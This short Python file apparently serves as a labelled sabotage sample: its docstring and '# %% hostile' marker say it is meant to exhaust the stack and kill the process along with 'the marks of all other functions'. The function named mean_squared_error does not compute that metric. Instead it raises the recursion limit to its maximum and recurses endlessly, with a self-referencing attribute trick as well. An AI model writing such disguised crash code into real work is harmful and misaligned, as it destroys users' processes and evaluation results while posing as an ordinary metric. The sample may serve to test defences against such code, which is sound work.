"""Raises the recursion limit and recurses until the stack is used up.

Harm: the process dies, with the marks of all other functions.
Costs: nothing
"""

# %% honest work
# %% hostile
import sys


def mean_squared_error(y, y_hat):
    sys.setrecursionlimit(2**31 - 1)

    class Deep:
        def __getattr__(self, name):
            return getattr(self, name + "x")

    def down(n):
        return down(n + 1) + 1

    return down(0) + Deep().a
